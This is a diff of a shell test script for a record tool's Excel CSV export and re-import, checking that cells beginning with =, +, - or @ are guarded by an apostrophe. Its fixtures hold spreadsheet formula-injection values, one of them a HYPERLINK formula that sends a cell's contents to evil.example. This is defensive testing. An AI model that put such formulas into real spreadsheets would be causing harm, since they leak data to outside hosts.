@@ -195,6 +195,9 @@ fr add '=HYPERLINK("http://evil.example/?"&A1,"click")' --kind pc --name '+1+cmd
 fr add --kind pc --name $'line one\n=2+3' --set 'notes=safe =1' -- '-PC-9'
 fr add '@PC-8' --kind pc --name '=1;2' --set 'licences=+33 1 23 45 67 89'
 fr add 'PC-7' --kind pc --set 'serial=x,=1+1' --set 'notes=a, -2+3'
+# text that starts with an apostrophe of its own, and guarded TABs
+fr add "'=A" --kind pc --name "'=x" --set "$(printf 'model=\t=2')" --set "owner=x,@y" \
+    --set "notes=a,'-b"
 fr commit -m 'formulas'
 expect_ok "$SCOPEREG" -R "$FR" export-csv --excel -o formula.csv
 # Split each record as Excel does with ';' (quotes honoured, "" is a quote);
@@ -255,10 +258,10 @@ pass "plain CSV keeps values as they are (round trip)"
 # nothing, and the output says how many rows had a guard dropped.
 before=$(sha_of "$FR")
 expect_ok "$SCOPEREG" -R "$FR" import formula.csv --dry-run -v
-expect_stdout_contains "0 added, 0 modified, 0 removed, 6 unchanged"
-expect_stdout_contains "dropped the apostrophe that guards a cell against formulas ('=, '+, '-, '@) in 4 rows (first on line 2)"
+expect_stdout_contains "0 added, 0 modified, 0 removed, 7 unchanged"
+expect_stdout_contains "dropped the apostrophe that guards a cell against formulas ('=, '+, '-, '@) in 5 rows (first on line 2)"
 expect_ok "$SCOPEREG" -R "$FR" import formula.csv
-expect_stdout_contains "0 added, 0 modified, 0 removed, 6 unchanged"
+expect_stdout_contains "0 added, 0 modified, 0 removed, 7 unchanged"
 expect_ok "$SCOPEREG" -R "$FR" status
 expect_stdout_contains "nothing staged"
 pass "export-csv --excel, imported back, stages nothing"
